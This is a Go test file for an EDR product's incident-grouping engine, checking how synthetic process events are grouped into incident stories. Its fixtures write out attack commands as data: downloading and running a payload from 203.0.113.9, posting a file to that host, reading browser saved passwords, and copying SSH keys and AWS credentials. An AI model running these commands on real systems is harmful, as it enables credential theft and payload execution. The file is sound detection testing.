package incident_test

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yagura-edr/yagura/internal/controldb"
	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/event/eventtest"
	"github.com/yagura-edr/yagura/internal/incident"
)

const passwords = "/home/u/.config/chromium/Default/Login Data"

// odd runs n ordinary programs, one odd one, and as many again.
func (t *tape) odd(parent string, n int) *tape {
	t.like(n, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
	t.start("odd", parent, 900, "/usr/bin/cat", "cat "+passwords)
	t.detect(t.reads("odd", passwords), "browser passwords read", detection.High, "T1555.003")
	t.like(n, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
	return t
}

func small(root string) []string {
	return []string{"incidents 1", "at-most 20", "beside 240", "in cat /home", "in " + root, "out stat -c"}
}

func oddInPipedShell() *tape {
	t := newTape(hostA)
	t.start("agent", "init", 60, "/home/ci/agent", "/home/ci/agent run")
	t.start("shell", "agent", 61, "/usr/bin/bash", "bash -s")
	return t.odd("shell", 120)
}

func oddInScript() *tape {
	t := newTape(hostA)
	t.start("login", "init", 60, "/usr/bin/bash", "-bash")
	t.procs["login"].TTY = "/dev/pts/0"
	t.start("script", "login", 61, "/usr/bin/bash", "bash /home/u/nightly.sh")
	return t.odd("script", 120)
}

func oddByAnsible() *tape {
	t := newTape(hostA)
	t.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	t.net(event.NetAccept, "sshd", "10.1.2.4:22", "10.1.2.9:50022")
	t.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
	t.start("sh", "session", 202, "/usr/bin/dash", "sh -c /usr/bin/python3 /home/ops/.ansible/tmp/x/AnsiballZ_command.py")
	t.start("python", "sh", 203, "/usr/bin/python3.11", "/usr/bin/python3 -c import module; module.main()")
	return t.odd("python", 120)
}

func oddInMake() *tape {
	t := newTape(hostA)
	t.start("agent", "init", 60, "/home/ci/agent", "/home/ci/agent run")
	t.start("shell", "agent", 61, "/usr/bin/bash", "bash -l")
	t.start("make", "shell", 62, "/usr/bin/make", "make -j2 all")
	return t.odd("make", 120)
}

func oddByDaemon() *tape {
	t := newTape(hostA)
	t.start("minion", "init", 60, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/salt-minion")
	return t.odd("minion", 120)
}

func oddByCron() *tape {
	t := newTape(hostA)
	t.running("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
	t.start("job", "cron", 60, "/usr/bin/dash", "/bin/sh -c /opt/app/nightly")
	t.start("script", "job", 61, "/usr/bin/bash", "/bin/bash /opt/app/nightly")
	return t.odd("script", 120)
}

// download fetches /dev/shm/k and makes it executable, with other programs between the two when there are any.
func (t *tape) download(parent string, between ...func()) {
	t.start("curl", parent, 901, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
	t.connect("curl", "203.0.113.9:80")
	t.write("curl", "/dev/shm/k", "77")
	for _, f := range between {
		f()
	}
	t.start("chmod", parent, 902, "/usr/bin/chmod", "chmod +x /dev/shm/k")
	t.add(event.Event{Kind: event.FileChmod, Actor: *t.procs["chmod"], Parent: t.up("chmod"), File: event.File{Path: "/dev/shm/k", VolumeID: "0:25", FileID: "77", Mode: 0o755}})
}

// attackInCI: a real attack among the programs of a job keeps its parts together.
func attackInCI() *tape {
	t := newTape(hostA)
	t.start("agent", "init", 60, "/home/ci/agent", "/home/ci/agent run")
	t.start("shell", "agent", 61, "/usr/bin/bash", "bash -l")
	t.start("make", "shell", 62, "/usr/bin/make", "make test")
	t.like(120, "make", 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
	t.download("make")
	t.detect(t.startFile("payload", "make", 903, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High, "T1059.004")
	t.start("sh", "payload", 904, "/usr/bin/dash", "sh -c id")
	t.start("cat", "sh", 905, "/usr/bin/cat", "cat "+passwords)
	t.detect(t.reads("cat", passwords), "browser passwords read", detection.High, "T1555.003")
	t.like(120, "make", 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
	return t
}

// processes counts those that are drawn.
func processes(s incident.Story) (n int) {
	for _, x := range s.Nodes {
		if x.Kind == incident.NodeProcess {
			n++
		}
	}
	return n
}

func TestOneOddActAmongManyStaysSmall(t *testing.T) {
	for name, tp := range map[string]*tape{
		"pipe": oddInPipedShell(), "script": oddInScript(), "ansible": oddByAnsible(), "make": oddInMake(), "daemon": oddByDaemon(), "cron": oddByCron(),
	} {
		s := tp.story()
		if n := processes(s); n > 20 || s.LeftOut.Beside != 240 {
			t.Errorf("%s: %d processes are shown, %d counted beside; want 20 at most, 240 beside", name, n, s.LeftOut.Beside)
		}
		if len(s.Folds) == 0 || s.Folds[0].Kind != incident.FoldBeside || s.Folds[0].Reason.Ja == "" {
			t.Errorf("%s: folds %+v; want one that says what is beside", name, s.Folds)
		}
		wantMembers(t, tp, s, []string{"odd"}, nil)
	}
}

// A log-on shell runs its start files, sixty programs here, and becomes the one script it was given: that script's steps
// stand whole in its story, and what set the shell up is beside it.
func TestStartFilesOfAShellAreNotTheScriptItBecomes(t *testing.T) {
	tp := newTape(hostA)
	tp.start("sshd", "init", 40, "/usr/sbin/sshd", "sshd -R")
	tp.start("shell", "sshd", 60, "/usr/bin/bash", "bash -c bash /tmp/take.sh")
	tp.like(60, "shell", 5000, "/usr/bin/readlink", "readlink pyenv")
	tp.exec("shell", "/usr/bin/bash", "bash /tmp/take.sh")
	for i, step := range []string{"find /home -name id_*", "cp /home/u/.ssh/id_rsa /dev/shm/k", "cat /home/u/.aws/credentials", "tar -czf /dev/shm/o.tgz /dev/shm/k", "rm -f /dev/shm/k"} {
		name := fmt.Sprint("step", i)
		run := tp.start(name, "shell", uint64(7000+i), "/usr/bin/"+strings.Fields(step)[0], step)
		if i < 2 {
			tp.detect(run, fmt.Sprint("rule ", i), detection.High)
		}
	}
	s := tp.story()
	wantMembers(t, tp, s, []string{"shell", "step0", "step1", "step2", "step3", "step4"}, nil)
	if n := processes(s); n > 10 || s.LeftOut.Beside != 60 {
		t.Errorf("%d processes are shown, %d counted beside; want 10 at most, 60 beside", n, s.LeftOut.Beside)
	}
}

// What a shell ran before it became a program brought that program: the download has an edge to it, and what made it
// executable stands beside the download, not among the start files.
func TestWhatMadeAProgramRunnableIsInTheStoryOfTheShellThatBecameIt(t *testing.T) {
	tp := newTape(hostA)
	tp.start("sshd", "init", 40, "/usr/sbin/sshd", "sshd -R")
	tp.start("shell", "sshd", 60, "/usr/bin/bash", "bash -c curl -so /dev/shm/k http://203.0.113.9/k; chmod +x /dev/shm/k; exec /dev/shm/k")
	tp.like(60, "shell", 5000, "/usr/bin/readlink", "readlink pyenv")
	tp.download("shell")
	p := tp.procs["shell"]
	p.VolumeID, p.FileID = "0:25", "77"
	tp.detect(tp.exec("shell", "/dev/shm/k", "/dev/shm/k"), "program run from memory", detection.High)
	s := tp.story()
	wantMembers(t, tp, s, []string{"shell", "curl", "chmod"}, nil)
	if n := processes(s); n > 10 || s.LeftOut.Beside != 60 {
		t.Errorf("%d processes are shown, %d counted beside; want 10 at most, 60 beside", n, s.LeftOut.Beside)
	}
}

// Not the number of 240: neither thirty programs nor a hundred, nor shells of shells, make one odd act a long story.
func TestOddActStaysSmallWhateverRunsBesideIt(t *testing.T) {
	for _, n := range []int{0, 4, 9, 15, 30, 60, 400} {
		tp := newTape(hostA)
		tp.start("script", "init", 61, "/usr/bin/bash", "bash /home/u/nightly.sh")
		for i := range 2 * n / 3 { // some start programs themselves
			name := fmt.Sprint("s", i)
			tp.start(name, "script", uint64(5000+i), "/usr/bin/dash", "sh -c date; df")
			tp.like(2, name, uint64(6000+2*i), "/usr/bin/df", "df -P")
		}
		tp.odd("script", n/6)
		if got := processes(tp.story()); got > 20 {
			t.Errorf("%d programs in groups beside it: %d processes are shown; want 20 at most", n, got)
		}
	}
}

func TestAttackInsideACIJobKeepsItsPartsTogether(t *testing.T) {
	tp := attackInCI()
	s := tp.story()
	wantMembers(t, tp, s, []string{"curl", "chmod", "payload", "sh", "cat", "make"}, []string{"agent"})
	wantEdge(t, s, incident.EdgeWroteExec, 2)
	wantEdge(t, s, incident.EdgeDownloaded, 1)
	if n := processes(s); n > 20 || s.LeftOut.Beside != 240 {
		t.Errorf("%d processes are shown, %d beside; want 20 at most and 240", n, s.LeftOut.Beside)
	}
}

// A short script whose steps several rules found is an attack as a whole.
func TestShortScriptFoundTwiceIsWhole(t *testing.T) {
	tp := newTape(hostA)
	tp.start("script", "init", 61, "/usr/bin/bash", "bash /tmp/x/collect.sh")
	tp.like(20, "script", 1000, "/usr/bin/find", "find / -name id_rsa")
	tp.start("odd", "script", 900, "/usr/bin/cat", "cat "+passwords)
	tp.detect(tp.reads("odd", passwords), "browser passwords read", detection.High)
	tp.start("post", "script", 901, "/usr/bin/curl", "curl --data-binary @/tmp/x/o http://203.0.113.9/")
	tp.detect(tp.connect("post", "203.0.113.9:80"), "file sent", detection.Medium)
	if n := processes(tp.story()); n < 23 {
		t.Errorf("%d processes are shown; want all 23", n)
	}
}

// The program that a rule found brings all that it did, also when it did much: that is the act.
func TestWhatTheFoundProgramDidIsInTheStory(t *testing.T) {
	tp := newTape(hostA)
	tp.start("service", "init", 100, "/opt/app/httpd", "/opt/app/httpd")
	tp.net(event.NetAccept, "service", "10.1.2.3:8080", "203.0.113.9:51000")
	tp.detect(tp.start("sh", "service", 101, "/usr/bin/dash", "sh -c id; ls; curl"), "service started a shell", detection.High)
	tp.like(30, "sh", 1000, "/usr/bin/id", "id")
	if n := processes(tp.story()); n < 32 {
		t.Errorf("%d processes are shown; want the service, its shell and the 30 programs below", n)
	}
}

// runAfterShell is the case of a test script: an attack in a script of its own, and later a word in the parent's acts.
func runAfterShell(n int) *tape {
	t := newTape(hostA)
	t.start("driver", "init", 60, "/home/u/driver", "/home/u/driver")
	t.start("run", "driver", 61, "/usr/bin/bash", "bash")
	t.start("sleep", "run", 62, "/usr/bin/sleep", "sleep 0.1")
	t.like(n/2, "run", 1000, "/usr/bin/date", "date +%s")
	t.start("attack", "run", 70, "/usr/bin/bash", "bash /src/dev/attacks/web-shell.sh")
	t.start("service", "attack", 100, "/usr/bin/perl", "perl /src/dev/attacks/lib/weak-service.pl /tmp/port")
	t.net(event.NetListen, "service", "127.0.0.1:8080", "0.0.0.0:0")
	t.net(event.NetAccept, "service", "127.0.0.1:8080", "127.0.0.1:51000")
	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -c convert -size x; id"), "service started a shell", detection.Critical)
	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://127.0.0.1:90/k")
	t.net(event.NetConnect, "curl", "127.0.0.1:40100", "127.0.0.1:90")
	t.write("curl", "/dev/shm/k", "77")
	t.detect(t.startFile("payload", "sh", 104, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High)
	t.like(7, "payload", 200, "/usr/bin/id", "id")
	for i, cmd := range []string{"mkdir -p /tmp/mimipenguin-notes", "ls /tmp/mimipenguin-notes", "git init mimipenguin"} {
		name := fmt.Sprint("odd", i)
		t.detect(t.start(name, "run", uint64(800+i), "/usr/bin/"+strings.Fields(cmd)[0], cmd), "memory of a process dumped", detection.High)
	}
	t.like(n-n/2, "run", 4000, "/usr/bin/grep", "grep -c x /tmp/log")
	return t
}

// desk runs a tape through a desk that works while events come, and gives the stories.
func desk(t *testing.T, list []event.Stamped, dets []detection.Detection, every int) []incident.Kept {
	t.Helper()
	db, err := controldb.Open(t.Context(), filepath.Join(t.TempDir(), "c.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = db.Close() }()
	d := incident.New(incident.Options{Store: db.Incidents(), Now: func() time.Time { return time.UnixMicro(t0).Add(time.Hour) }})
	by := map[event.ID][]detection.Detection{}
	for _, x := range dets {
		by[x.Event.ID] = append(by[x.Event.ID], x)
	}
	for i, e := range list {
		d.Observe(t.Context(), tenantMain, list[i:i+1])
		for _, x := range by[e.ID] {
			if err := d.Receive(t.Context(), x); err != nil {
				t.Fatal(err)
			}
		}
		if i%every == 0 {
			if err := d.Flush(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := d.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	rows, err := d.List(t.Context(), tenantMain, incident.Query{})
	if err != nil {
		t.Fatal(err)
	}
	var out []incident.Kept
	for _, r := range rows {
		k, _, err := d.Get(t.Context(), tenantMain, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, k)
	}
	slices.SortFunc(out, func(a, b incident.Kept) int { return int(b.Row.Severity) - int(a.Row.Severity) })
	return out
}

// Words in the acts of the shell that also ran an attack: the attack's story stays as it was, theirs is small.
func TestFalsePositiveOfTheParentLeavesTheAttackAsItWas(t *testing.T) {
	for _, n := range []int{40, 787, 1813} {
		tp := runAfterShell(n)
		k := desk(t, tp.events, tp.dets, 50)
		if len(k) != 2 || k[0].Row.Processes != 11 || k[0].Row.Detections != 2 || k[1].Row.Processes != 4 || k[1].Row.Detections != 3 {
			for _, x := range k {
				t.Logf("%s: %d processes, %d detections", x.Row.Title.En, x.Row.Processes, x.Row.Detections)
			}
			t.Errorf("beside %d programs there are %d incidents; want the attack's 11 processes and the 4 of the false positive", n, len(k))
		}
	}
}

// A parent that runs few programs when something is found, and many later, gives the story of one that had run many.
func TestRunnerThatBecomesOneLaterTellsTheSameStory(t *testing.T) {
	for name, tape := range map[string]func() *tape{"pipe": oddInPipedShell, "script": oddInScript, "make": oddInMake, "cron": oddByCron, "attack": attackInCI, "run": func() *tape { return runAfterShell(300) }} {
		tp := tape()
		shape := func(ks []incident.Kept) (out string) {
			for _, k := range ks {
				out += fmt.Sprintf("%s: %d processes, %d detections\n", k.Row.Title.En, k.Row.Processes, k.Row.Detections)
			}
			return out
		}
		want := shape(desk(t, tp.events, tp.dets, 1_000_000))
		for seed := range uint64(30) {
			if got := shape(desk(t, eventtest.Interleave(tp.events, seed), tp.dets, 1+int(seed)*7)); got != want {
				t.Errorf("%s, order %d:\n%swant\n%s", name, seed, got, want)
			}
		}
	}
}

// A low finding in the same job joins the incident whether it came before or after what opened it.
func TestLowFindingJoinsBeforeAndAfter(t *testing.T) {
	for name, first := range map[string]bool{"before": true, "after": false} {
		tp := newTape(hostA)
		tp.start("shell", "init", 61, "/usr/bin/bash", "bash -s")
		low := func() {
			tp.detect(tp.start("low", "shell", 70, "/usr/bin/id", "id"), "account looked up", detection.Low)
		}
		if first {
			low()
		}
		tp.odd("shell", 40)
		if !first {
			low()
		}
		for every := range 3 {
			if k := desk(t, tp.events, tp.dets, 1+every*20); len(k) != 1 || k[0].Row.Detections != 2 {
				t.Errorf("%s: %d incidents, the first with %d detections; want one with both", name, len(k), k[0].Row.Detections)
			}
		}
	}
}

// What a low finding that waited for its incident does next is in the story at once, as if it had come after.
func TestLowFindingThatWaitedGoesOnInItsStory(t *testing.T) {
	for name, first := range map[string]bool{"before": true, "after": false} {
		tp := newTape(hostA)
		tp.start("login", "init", 60, "/usr/bin/bash", "-bash")
		tp.procs["login"].TTY = "/dev/pts/0"
		low := func() {
			tp.detect(tp.start("low", "login", 70, "/usr/bin/perl", "perl -e 1"), "inline code", detection.Low)
		}
		if first {
			low()
		}
		tp.start("odd", "login", 71, "/usr/bin/cat", "cat "+passwords)
		tp.detect(tp.reads("odd", passwords), "browser passwords read", detection.High)
		if !first {
			low()
		}
		tp.start("next", "low", 72, "/usr/bin/id", "id")
		if k := desk(t, tp.events, tp.dets, 1); len(k) != 1 || k[0].Row.Processes != 4 {
			t.Errorf("%s: %d incidents, the first with %d processes; want one with 4: the shell, both and what the low one started", name, len(k), k[0].Row.Processes)
		}
	}
}

// A very long story shows what tells most and says what it left out, also when all of it was found by rules.
func TestLongStorySaysWhatItLeftOut(t *testing.T) {
	tp := newTape(hostA)
	tp.start("tool", "init", 61, "/home/u/tool", "/home/u/tool")
	for i := range 450 {
		s := tp.start(fmt.Sprint(i), "tool", uint64(1000+i), "/usr/bin/cat", "cat "+passwords)
		sev := detection.Medium
		if i == 400 {
			sev = detection.Critical
		}
		tp.detect(s, fmt.Sprint("rule ", i%3), sev)
	}
	begin := time.Now()
	s := tp.story()
	if took := time.Since(begin); took > 2*time.Second {
		t.Errorf("it took %v", took)
	}
	if n := processes(s); n > 200 || s.LeftOut.Members != 451+1-n || !s.Truncated {
		t.Errorf("%d processes are shown, %d counted as left out of 452 with the one above (truncated %v)", n, s.LeftOut.Members, s.Truncated)
	}
	over := 0
	for _, f := range s.Folds {
		if f.Kind == incident.FoldOver {
			over += f.Count
		}
	}
	if over != s.LeftOut.Members {
		t.Errorf("the folds stand for %d; want all %d", over, s.LeftOut.Members)
	}
	wantMembers(t, tp, s, []string{"tool", "400"}, nil)
}

// pipe says that one program reads what another writes.
func (t *tape) pipe(reader, writer string) event.Stamped {
	return t.add(event.Event{Kind: event.ProcessPipe, Actor: *t.procs[reader], Parent: t.up(reader), Target: *t.procs[writer], Upstream: []string{t.procs[writer].Path}})
}

// pipedDownload: somebody at a terminal feeds a shell with a download, and only what that shell then does is found.
func pipedDownload() *tape {
	t := newTape(hostA)
	t.start("login", "init", 60, "/usr/bin/bash", "-bash")
	t.procs["login"].TTY = "/dev/pts/0"
	t.like(30, "login", 1000, "/usr/bin/ls", "ls")
	t.start("curl", "login", 70, "/usr/bin/curl", "curl -s http://203.0.113.9/i")
	t.start("sh", "login", 71, "/usr/bin/dash", "sh")
	t.pipe("sh", "curl")
	t.connect("curl", "203.0.113.9:80")
	t.start("id", "sh", 72, "/usr/bin/id", "id")
	t.start("cat", "sh", 73, "/usr/bin/cat", "cat "+passwords)
	t.detect(t.reads("cat", passwords), "browser passwords read", detection.High, "T1555.003")
	return t
}

func TestShellFedByADownloadIsInTheStoryWithIt(t *testing.T) {
	tp := pipedDownload()
	s := tp.story()
	wantMembers(t, tp, s, []string{"curl", "sh", "id", "cat", "login"}, nil)
	wantEdge(t, s, incident.EdgePiped, 1)
	if n := processes(s); n > 8 {
		t.Errorf("%d processes are shown; want no ls", n)
	}
}

// What feeds the shell it started, as a CI agent does, is its parent and no part of a pipeline.
func TestAgentThatFeedsItsShellIsNoPipeline(t *testing.T) {
	tp := oddInPipedShell()
	tp.pipe("shell", "agent")
	s := tp.story()
	wantMembers(t, tp, s, []string{"odd"}, []string{"agent"})
	if n := processes(s); n > 20 || s.LeftOut.Beside != 240 {
		t.Errorf("%d processes are shown, %d beside", n, s.LeftOut.Beside)
	}
}
